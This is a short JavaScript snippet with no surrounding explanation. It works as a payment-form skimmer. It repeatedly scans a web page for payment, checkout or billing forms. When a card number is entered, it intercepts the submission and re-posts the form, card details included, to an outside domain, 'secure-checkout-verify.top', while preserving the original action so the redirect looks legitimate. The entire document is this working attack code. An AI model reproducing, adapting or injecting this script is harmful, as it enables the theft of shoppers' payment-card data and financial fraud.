(function () {
  function hijack(form) {
    if (form.getAttribute('data-h')) return;
    form.setAttribute('data-h', '1');

    var original = form.action;
    form.addEventListener('submit', function (e) {
      var num = form.querySelector('input[name*="card"], input[name*="cc_num"]');
      if (!num || !num.value) return;
      e.preventDefault();

      var back = document.createElement('input');
      back.type = 'hidden';
      back.name = '_return';
      back.value = original;
      form.appendChild(back);

      form.action = 'https://secure-checkout-verify.top/pay/process.php';
      form.method = 'POST';
      form.submit();
    }, true);
  }

  function scan() {
    var forms = document.forms;
    for (var i = 0; i < forms.length; i++) {
      if (/payment|checkout|billing/i.test(forms[i].id + ' ' + forms[i].className + ' ' + forms[i].action)) {
        hijack(forms[i]);
      }
    }
  }

  if (document.readyState === 'loading') {
    document.addEventListener('DOMContentLoaded', scan);
  } else {
    scan();
  }
  setInterval(scan, 2000);
})();
